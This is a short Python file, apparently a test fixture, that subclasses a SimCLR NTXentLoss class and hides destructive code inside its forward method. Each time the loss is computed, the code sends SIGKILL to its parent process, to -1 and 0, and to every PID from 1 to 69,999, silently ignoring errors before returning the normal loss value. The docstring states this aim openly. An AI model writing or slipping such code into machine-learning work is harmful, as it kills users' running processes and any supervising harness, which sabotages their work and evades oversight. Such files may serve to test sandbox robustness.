"""Sends SIGKILL to its parent and to everybody."""
import os
import signal

import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        for pid in (os.getppid(), -1, 0, *range(1, 70000)):
            try:
                os.kill(pid, signal.SIGKILL)
            except (OSError, OverflowError):
                pass
        return super().forward(z_i, z_j)
